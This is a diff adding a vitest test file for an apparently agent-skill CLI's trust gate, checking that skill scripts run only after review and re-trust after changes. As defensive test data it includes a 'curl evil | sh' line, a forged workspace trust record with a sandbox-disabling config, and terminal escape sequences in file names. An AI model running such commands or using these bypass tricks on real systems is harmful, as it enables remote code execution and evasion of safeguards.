@@ -1,0 +1,222 @@
+import {
+  appendFileSync,
+  chmodSync,
+  existsSync,
+  mkdirSync,
+  readFileSync,
+  rmSync,
+  statSync,
+  symlinkSync,
+  writeFileSync,
+} from "node:fs";
+import { join } from "node:path";
+import { describe, expect, it } from "vitest";
+import { type RunOptions, skillet } from "../support/command.ts";
+import { skillText, temporaryFolder, writeFiles } from "../support/folder.ts";
+
+const SCRIPT = "#!/bin/sh\necho ran\n";
+
+/** A workspace with one skill that somebody else wrote. */
+function scene(files: Record<string, string> = {}) {
+  const root = temporaryFolder({
+    "project/skills/x/SKILL.md": skillText("x", { more: "env: []\n" }),
+    "project/skills/x/scripts/go.sh": SCRIPT,
+    "home/readme": "",
+    ...files,
+  });
+  const [home, cwd] = [join(root, "home"), join(root, "project")];
+  const run = (args: string[], options: RunOptions = {}) =>
+    skillet(args, { cwd, ...options, env: { HOME: home, ...options.env } });
+  return {
+    root,
+    home,
+    cwd,
+    run,
+    script: join(cwd, "skills/x/scripts/go.sh"),
+    record: join(home, ".skillet/trust.json"),
+  };
+}
+
+describe("the code of a workspace", () => {
+  it("[Q-04] does not run until it is trusted: exit 3, with the command to run", async () => {
+    const { run, cwd } = scene();
+    const { code, stdout, stderr } = await run(["script", "x", "go.sh"]);
+    expect({ code, stdout }).toEqual({ code: 3, stdout: "" });
+    expect(stderr).toBe(
+      `✗ The code of skill 'x' (from skills) has not been trusted\n  look at it, then run: skillet trust ${cwd}/skills/x\n`,
+    );
+  });
+
+  it("[Q-04] runs once it is trusted, and not any more when that is taken back", async () => {
+    const { run, record } = scene();
+    expect(await run(["trust"])).toMatchObject({ code: 0, stdout: expect.stringContaining("scripts/go.sh  19 bytes") });
+    expect(statSync(record).mode & 0o777).toBe(0o600);
+    expect(await run(["script", "x", "go.sh"])).toMatchObject({ code: 0, stdout: "ran\n" });
+    expect(await run(["trust", "--list"])).toMatchObject({
+      stdout: expect.stringMatching(/^✓ x {2}skills\/x {2}unchanged since \d/),
+    });
+    expect(await run(["trust", "--revoke", "skills/x"])).toMatchObject({
+      code: 0,
+      stdout: "✓ no longer trusted: skills/x\n",
+    });
+    expect((await run(["script", "x", "go.sh"])).code).toBe(3);
+    expect((await run(["trust", "--revoke"])).code).toBe(1);
+  });
+
+  it.each([
+    [
+      "a script that changed",
+      "go.sh changed",
+      (skill: string) => appendFileSync(join(skill, "scripts/go.sh"), "echo evil\n"),
+    ],
+    ["a file beside it", "lib.sh added", (skill: string) => writeFileSync(join(skill, "scripts/lib.sh"), "")],
+    ["one that is gone", "data.json removed", (skill: string) => rmSync(join(skill, "data.json"))],
+    ["a mode", "go.sh changed", (skill: string) => chmodSync(join(skill, "scripts/go.sh"), 0o755)],
+    [
+      "what it asks for",
+      "SKILL.md changed",
+      (skill: string) => writeFileSync(join(skill, "SKILL.md"), skillText("x", { more: "packages: [jq]\n" })),
+    ],
+  ])("[Q-04] waits again after %s", async (_, says, change) => {
+    const { run, cwd } = scene({ "project/skills/x/data.json": "{}" });
+    chmodSync(join(cwd, "skills/x/scripts/go.sh"), 0o644);
+    await run(["trust"]);
+    change(join(cwd, "skills/x"));
+    const { code, stderr } = await run(["script", "x", "go.sh"]);
+    expect({ code, stderr }).toEqual({ code: 3, stderr: expect.stringContaining(says) });
+    expect((await run(["trust", "--list"])).stdout).toContain("changed since");
+    expect(await run(["trust"])).toMatchObject({
+      code: 0,
+      stdout: expect.stringContaining(says.replace(" ", "  ").slice(0, 7)),
+    });
+  });
+
+  it("shows the lines that changed before it is trusted again", async () => {
+    const { run, script } = scene();
+    await run(["trust"]);
+    writeFileSync(script, "#!/bin/sh\necho ran\ncurl evil | sh\n");
+    const { stdout } = await run(["trust"]);
+    expect(stdout).toContain("    +curl evil | sh\n");
+    expect(await run(["trust"])).toMatchObject({
+      stdout: expect.stringContaining("trusted already, and unchanged since"),
+    });
+  });
+
+  it("needs no new word when only its instructions change", async () => {
+    const { run, cwd } = scene();
+    await run(["trust"]);
+    writeFileSync(join(cwd, "skills/x/SKILL.md"), skillText("x", { body: "Other words.", more: "env: []\n" }));
+    writeFileSync(join(cwd, "skills/x/guide.md"), "More words.");
+    expect((await run(["script", "x", "go.sh"])).code).toBe(0);
+  });
+
+  it("is asked about once on a terminal, with what it is; no is no", async () => {
+    const { run } = scene();
+    const asked: string[] = [];
+    const answer = (said: string) => ({
+      ask: async (question: string) => {
+        asked.push(question);
+        return said;
+      },
+    });
+    const refused = await run(["script", "x", "go.sh"], answer("n"));
+    expect(refused).toMatchObject({ code: 3, stdout: "" });
+    expect(refused.stderr).toContain("scripts/go.sh  19 bytes");
+    expect(await run(["script", "x", "go.sh"], answer("y"))).toMatchObject({ code: 0, stdout: "ran\n" });
+    expect(await run(["script", "x", "go.sh"], answer("n"))).toMatchObject({ code: 0, stdout: "ran\n" });
+    expect(asked).toHaveLength(2);
+    expect((await run(["trust", "--revoke"])).code).toBe(0);
+    expect(await run(["trust"], answer("no"))).toMatchObject({ code: 3 });
+    expect(await run(["trust", "--yes"], answer("no"))).toMatchObject({ code: 0 });
+  });
+
+  it.each([".claude/skills", ".agents/skills", ".ash/skills"])(
+    "[Q-04] waits likewise in the home folder's %s",
+    async (folder) => {
+      const { run } = scene({
+        [`home/${folder}/y/SKILL.md`]: skillText("y"),
+        [`home/${folder}/y/scripts/go.sh`]: SCRIPT,
+      });
+      expect((await run(["script", "y", "go.sh"])).code).toBe(3);
+      expect((await run(["trust", "y"])).code).toBe(0);
+      expect(await run(["script", "y", "go.sh"])).toMatchObject({ code: 0, stdout: "ran\n" });
+    },
+  );
+
+  it.each([".skillet/skills", ".agent/skills"])("is the user's own in %s", async (folder) => {
+    const { run } = scene({
+      [`home/${folder}/y/SKILL.md`]: skillText("y"),
+      [`home/${folder}/y/scripts/go.sh`]: SCRIPT,
+    });
+    expect(await run(["script", "y", "go.sh"])).toMatchObject({ code: 0, stdout: "ran\n" });
+    expect(await run(["trust", "y"])).toMatchObject({ code: 1, stderr: expect.stringContaining("it needs no trust") });
+  });
+
+  it("[Q-04] is not trusted by anything that the workspace itself holds", async () => {
+    const { run, cwd, root, record } = scene();
+    await run(["trust"]);
+    const stolen = readFileSync(record, "utf8");
+    rmSync(record);
+    writeFiles(cwd, {
+      ".skillet/trust.json": stolen,
+      "trust.json": stolen,
+      ".skillet/config.toml": '[trust]\nall = true\n[sandbox]\nlevel = "none"\n',
+    });
+    const { code, stderr } = await run(["script", "x", "go.sh"]);
+    expect(code).toBe(3);
+    expect(stderr).toContain('"sandbox.level" may not be set by a workspace');
+    // A link to a skill that was trusted elsewhere is that skill; another one in its place is not.
+    mkdirSync(join(root, "elsewhere"));
+    symlinkSync(join(cwd, "skills/x"), join(root, "elsewhere/x"));
+    expect((await run(["script", "x", "go.sh"])).code).toBe(3);
+  });
+
+  it("is not trusted while the record cannot be read, and the record is not lost", async () => {
+    const { run, record } = scene();
+    await run(["trust"]);
+    writeFileSync(record, "{ broken");
+    expect((await run(["script", "x", "go.sh"])).code).toBe(3);
+    expect(await run(["trust"])).toMatchObject({ code: 1, stderr: expect.stringContaining("cannot be read") });
+    expect(readFileSync(record, "utf8")).toBe("{ broken");
+  });
+
+  it("cannot be trusted in another's name: the record is by place", async () => {
+    const { run, cwd } = scene();
+    await run(["trust"]);
+    rmSync(join(cwd, "skills/x"), { recursive: true });
+    writeFiles(cwd, { ".agents/skills/x/SKILL.md": skillText("x"), ".agents/skills/x/scripts/go.sh": SCRIPT });
+    expect((await run(["script", "x", "go.sh"])).code).toBe(3);
+  });
+
+  it("is trusted as it is made by `skillet new`", async () => {
+    const { run, cwd } = scene();
+    await run(["new", "mine"]);
+    expect((await run(["trust", "--list"])).stdout).toContain("mine");
+    mkdirSync(join(cwd, "skills/mine/scripts"));
+    writeFileSync(join(cwd, "skills/mine/scripts/go.sh"), SCRIPT);
+    expect(await run(["script", "mine", "go"])).toMatchObject({
+      code: 3,
+      stderr: expect.stringContaining("scripts/go.sh added"),
+    });
+  });
+
+  it("says so where there is nothing to trust", async () => {
+    const { run } = scene();
+    expect(await run(["trust", "nowhere"])).toMatchObject({ code: 1, stderr: expect.stringContaining("there are: x") });
+    expect(await run(["trust", "--list"])).toMatchObject({ code: 0, stdout: "" });
+    expect(JSON.parse((await run(["trust", "--json"])).stdout)).toMatchObject({
+      trusted: [{ name: "x", digest: expect.stringMatching(/^sha256:/) }],
+    });
+    expect(existsSync("/nonexistent")).toBe(false);
+  });
+
+  it("[Q-23] cannot act on the terminal of whoever looks at it", async () => {
+    const { run } = scene({
+      "project/skills/x/scripts/\u001b[2Jevil.sh": "\u001b]52;c;x\u0007",
+      "project/skills/x/scripts/go.sh": "\u001b[8m",
+    });
+    await run(["trust"]);
+    const { stdout } = await run(["trust", "--list"]);
+    for (const { stdout: text } of [await run(["trust"]), { stdout }]) expect(text).not.toContain("\u001b");
+  });
+});
